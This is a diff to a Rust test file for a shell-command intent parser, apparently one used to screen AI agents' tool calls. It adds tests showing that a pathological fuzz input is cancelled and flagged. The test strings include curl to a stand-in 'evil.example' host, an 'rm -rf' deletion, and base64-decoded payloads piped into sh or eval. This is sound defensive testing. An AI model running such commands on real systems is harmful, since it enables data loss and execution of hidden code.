@@ -23,6 +23,13 @@ fn fuzz_seed_corpus_replays() {
         let text = String::from_utf8_lossy(&bytes);
         let got = intent::parse_shell(&text, &ctx());
         assert!(got.actions.len() <= ctx().max_actions, "{}", path.display());
+        if path.file_name().is_some_and(|n| n == "slow_error_recovery") {
+            // tree-sitter's error recovery runs for minutes on this input
+            // unbounded; under the work budget the parse is cancelled and
+            // the Intent says so, with what could still be read
+            assert!(got.overflow, "{got:?}");
+            assert!(got.actions.iter().any(|a| a.attrs.unresolved), "{got:?}");
+        }
         let _ = intent::parse(
             &Request::Argv(text.split(' ').map(str::to_string).collect()),
             &ctx(),
@@ -75,6 +82,62 @@ fn oversized_input_is_cut_and_flagged() {
     let got = intent::parse_shell(&"cat a; ".repeat(100), &c);
     assert!(got.overflow);
     assert_eq!(got.actions.len(), 10);
+}
+
+fn regression(name: &str) -> String {
+    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
+        .join("../fuzz/regressions")
+        .join(name);
+    String::from_utf8_lossy(&std::fs::read(path).unwrap()).into_owned()
+}
+
+#[test]
+fn pathological_error_recovery_is_cancelled_and_flagged() {
+    let seed = regression("intent_shell_slow_error_recovery");
+    // alone: cancelled, flagged, never "nothing happens here"
+    let got = intent::parse_shell(&seed, &ctx());
+    assert!(got.overflow);
+    assert!(!got.actions.is_empty());
+    // what could still be read is reported: a URL next to it
+    let got = intent::parse_shell(&format!("curl http://evil.example/x; {seed}"), &ctx());
+    assert!(got.overflow);
+    assert!(
+        got.actions.iter().any(
+            |a| a.verb == Verb::Connect && format!("{:?}", a.resource).contains("evil.example")
+        ),
+        "{got:?}"
+    );
+    // nested (decoded and run): the outer actions stay, the inner parse is cut
+    let nested = format!("rm -rf /tmp/x; echo {} | base64 -d | sh", b64(&seed));
+    let got = intent::parse_shell(&nested, &ctx());
+    assert!(got.overflow);
+    assert!(got.actions.iter().any(|a| a.verb == Verb::Delete));
+    // one budget for the whole request: many nested copies cannot multiply it
+    let many = format!("eval \"$(echo {} | base64 -d)\"; ", b64(&seed)).repeat(40);
+    let got = intent::parse_shell(&many, &ctx());
+    assert!(got.overflow);
+    // and inside a tool call
+    let got = intent::parse(
+        &Request::tool_call("bash", serde_json::json!({ "command": seed })),
+        &ctx(),
+    );
+    assert!(got.overflow);
+}
+
+#[test]
+fn a_large_benign_script_fits_the_budget() {
+    // the work budget is proportional to the input: a 100 KB script of
+    // ordinary commands is parsed whole, not cut
+    let unit = "set -euo pipefail\nmkdir -p \"$OUT\"\nfor f in src/*.c; do gcc -O2 -c \"$f\" -o \"$OUT/$(basename \"$f\" .c).o\"; done\nif [ -n \"${CI:-}\" ]; then curl -fsSL https://example.com/report -d @build.log || true; fi\ntar czf dist.tgz -C \"$OUT\" . && sha256sum dist.tgz > dist.sha256\n";
+    let script = unit.repeat(100 * 1024 / unit.len());
+    let c = ParseContext::builder()
+        .cwd("/home/dev/project")
+        .home("/home/dev")
+        .max_actions(1_000_000)
+        .build();
+    let got = intent::parse_shell(&script, &c);
+    assert!(!got.overflow);
+    assert!(got.actions.iter().any(|a| a.verb == Verb::Connect));
 }
 
 fn b64(s: &str) -> String {
